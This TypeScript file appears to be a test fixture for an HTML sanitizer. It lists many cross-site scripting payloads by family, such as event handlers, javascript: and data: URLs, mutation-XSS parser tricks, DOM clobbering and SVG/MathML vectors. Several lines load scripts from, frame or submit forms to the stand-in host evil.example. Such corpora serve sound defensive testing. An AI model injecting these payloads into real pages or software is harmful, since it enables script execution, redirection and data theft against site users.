/** Ways in which page HTML has harmed a page that drew it, by family. Written for this project; what they would do is call `alert`. */
export const payloads: Record<string, readonly string[]> = {
  'scripts': [
    '<script>alert(1)</script>', '<SCRIPT/x>alert(1)</SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script src="https://evil.example/x.js"></script>',
    '<script type="module">import "https://evil.example/x.js"</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src="https://a.example/1.png" onload="alert(1)">', '<p onclick=alert(1)>x</p>', '<p onmouseover=alert(1)>x</p>',
    '<a href="https://a.example" onfocus=alert(1) autofocus>x</a>', '<details open ontoggle=alert(1)>x</details>', '<div onpointerenter=alert(1)>x</div>', '<body onload=alert(1)>', '<p/onanimationstart=alert(1)/style=animation:x>x</p>',
    '<marquee onstart=alert(1)>x</marquee>', '<table onbeforecopy=alert(1)><tr><td oncopy=alert(1)>x</td></tr></table>', '<div\u000Conclick=alert(1)>x</div>', '<img src=x onerror\n=alert(1)>', '<span ONCLICK="alert(1)">x</span>',
  ],
  'addresses that run': [
    '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="javascript&NewLine;:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="blob:https://a.example/1">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="chrome://settings">x</a>', '<a href="moz-extension://1/reader.html">x</a>',
    '<a href="chrome-extension://1/options.html">x</a>', '<a href="view-source:https://a.example">x</a>', '<a href="//evil.example/x">x</a>', '<a href="library.html">x</a>', '<a href="?id=1">x</a>', '<img src="javascript:alert(1)">', '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<img src="data:text/html,x">', '<img src="blob:https://a.example/1">', '<img src="file:///etc/passwd">', '<img src="icons/icon-16.png">', '<p href=`javascript:alert(1)`>x</p>', '<p><applet><p>x', '<p src="x">y</p>', '<a src="x" href="https://a.example">y</a>', '<blockquote cite="javascript:alert(1)">x</blockquote>', '<q cite="data:text/html,x">x</q>',
  ],
  'frames and plug-ins': [
    '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<frameset><frame src="https://evil.example"></frameset>', '<object data="https://evil.example"></object>', '<embed src="https://evil.example">', '<applet code=x></applet>', '<portal src="https://evil.example"></portal>', '<fencedframe></fencedframe>',
  ],
  'forms and controls': [
    '<form action="https://evil.example"><input name=q><button>Go</button></form>', '<input autofocus onfocus=alert(1)>', '<button formaction="javascript:alert(1)">x</button>', '<textarea>x</textarea>', '<select><option>x</option></select>', '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<label for=q>x</label>', '<dialog open>x</dialog>',
  ],
  'what loads': [
    '<img srcset="https://evil.example/1.png 1x" src="https://a.example/1.png">', '<picture><source srcset="https://evil.example/1.png"><img src="https://a.example/1.png"></picture>', '<video src="https://evil.example/v" poster="https://evil.example/p"></video>', '<audio src="https://evil.example/a" autoplay></audio>',
    '<link rel=stylesheet href="https://evil.example/x.css">', '<link rel=prefetch href="https://evil.example/x">', '<style>@import "https://evil.example/x.css"; p{background:url(https://evil.example/x)}</style>', '<p style="background:url(https://evil.example/x)">x</p>', '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
    '<input type=image src="https://evil.example/x">', '<track src="https://evil.example/x">', '<body background="https://evil.example/x">x</body>', '<a href="https://a.example" ping="https://evil.example/p">x</a>', '<img src="https://a.example/1.png" lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">', '<svg><image href="https://evil.example/x"/></svg>', '<bgsound src="https://evil.example/x">',
  ],
  'what navigates or rebases': [
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<meta charset="utf-7">', '<a href="https://a.example" target="_top">x</a>', '<a href="https://a.example" target="opener" rel="opener">x</a>', '<a href="https://a.example" download="x.exe">x</a>', '<area href="https://a.example" shape=default>', '<map name=m><area href="javascript:alert(1)"></map><img usemap="#m" src="https://a.example/1.png">',
  ],
  'SVG and MathML': [
    '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate attributeName=href values=javascript:alert(1) />', '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
    '<math href="javascript:alert(1)">x</math>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ],
  'markup that changes when parsed again': [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><style></noscript><img src=x onerror=alert(1)>', '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    '<!--><img src=x onerror=alert(1)>-->', '<!--<img src="--><img src=x onerror=alert(1)//">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<select><template><img src=x onerror=alert(1)></template></select>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<title><a title="</title><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<table><caption><svg><title><table><tbody><style></title><img src=x onerror=alert(1)></style>',
  ],
  'names that clobber': [
    '<form id=x><input name=attributes></form>', '<a id=document href="https://a.example">x</a>', '<img name=body src="https://a.example/1.png">', '<p id=main>x</p>', '<div id=__proto__>x</div>', '<a id=browser></a><a id=browser name=runtime href="https://a.example">x</a>', '<form><input name=parentNode><input name=childNodes></form>', '<p class="popover problem bar" data-part="bar" data-action="save">x</p>',
    '<div role=alert aria-live=assertive>x</div>', '<p slot=x part=y is=z exportparts=w>x</p>', '<div contenteditable tabindex=1 accesskey=s draggable=true popover>x</div>', '<button popovertarget=look-panel>x</button>', '<custom-element>x</custom-element>',
  ],
};
